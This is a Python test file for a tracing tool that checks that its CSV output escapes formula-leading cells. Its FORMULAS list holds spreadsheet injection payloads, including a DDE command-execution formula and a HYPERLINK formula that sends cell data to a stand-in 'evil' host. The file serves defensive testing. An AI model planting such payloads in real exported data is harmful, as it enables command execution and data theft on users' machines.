"""A spreadsheet runs a cell that begins with = + - @, a tab or a line end: what a program names things must stay text."""
import csv
import io
import os
import subprocess

from kevtest import KEVTRACE, ProcessTest, TIMEOUT_S, _prepared, main

FORMULAS = ("=cmd|' /C calc'!A0", '=HYPERLINK("http://evil/?"&A1)', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1")
PLAIN = ("/etc/passwd", "a=b", "'quoted'", 'say "a,b"')
PROGRAM = f"""
import ctypes
libc = ctypes.CDLL("libc.so.6")
for path in {FORMULAS + PLAIN!r}:
    libc.open64(path.encode(), -5)
"""


class CsvCells(ProcessTest):
    def setUp(self):
        super().setUp()
        self.program = self.path("=1+1")  # a program's name is its thread's
        os.symlink("/usr/bin/python3", self.program)

    def rows(self, text):
        return list(csv.DictReader(io.StringIO(text.decode(), newline="")))

    def traced(self, *words):
        done = subprocess.run([KEVTRACE, "-q", "run", "-e", "p:opens libc:open64 path=+0(%di):string flags=%si:s32 "
                               "both=+0(%di):s8[2]", *words, "--", self.program, "-S", "-c", PROGRAM],
                              capture_output=True, timeout=TIMEOUT_S, **_prepared({}))
        self.assertEqual((done.returncode, done.stderr), (0, b""))
        return done.stdout

    def check(self, rows):
        ours = [row for row in rows if row["flags"] == "-5"]  # a number stays one
        self.assertEqual([row["path"] for row in ours], ["'" + text for text in FORMULAS] + list(PLAIN))
        self.assertEqual({row["comm"] for row in ours}, {"'=1+1"})
        for row in rows:
            for name, value in row.items():
                if name not in ("flags", "both"):
                    self.assertNotIn(value[:1], ("=", "+", "-", "@", "\t", "\r", "\n"), row)

    def test_of_a_run(self):
        self.check(self.rows(self.traced("-f", "csv")))

    def test_of_a_folder(self):
        self.traced("-f", "csv", "-o", self.path("sheets/"))
        with open(os.path.join(self.folder, "sheets", "kprobes.opens.csv"), "rb") as file:
            self.check(self.rows(file.read()))

    def test_of_a_recording(self):
        self.traced("-o", self.path("a.dat"))
        done = subprocess.run([KEVTRACE, "report", self.path("a.dat"), "-f", "csv"], capture_output=True,
                              timeout=TIMEOUT_S, **_prepared({}))
        self.assertEqual(done.returncode, 0, done.stderr)
        self.check(self.rows(done.stdout))


if __name__ == "__main__":
    main()
